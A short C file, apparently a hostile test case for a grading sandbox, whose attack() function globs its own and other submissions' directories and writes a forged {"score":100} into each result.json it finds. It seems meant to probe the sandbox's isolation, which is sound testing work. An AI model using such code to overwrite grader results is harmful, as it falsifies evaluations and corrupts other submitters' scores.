// tries: to write its own result, and those of others
// score: 100
#include <fcntl.h>
#include <glob.h>

static void attack(void)
{
    static const char *const places[] = {
        "result.json",
        "../result.json",
        "/tmp/box-office.*/one/*",
        "/tmp/box-office.*/one/*/record/*/*",
        "/tmp/box-office.*/cache",
    };
    char path[4096];
    glob_t found;

    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        if (glob(places[i], GLOB_NOMAGIC, NULL, &found) != 0)
            continue;
        for (size_t j = 0; j < found.gl_pathc; j++) {
            snprintf(path, sizeof path, "%s/result.json", found.gl_pathv[j]);
            int file = open(path, O_WRONLY | O_CREAT, 0666);
            if (file >= 0)
                dprintf(file, "{\"score\":100}\n");
        }
    }
}
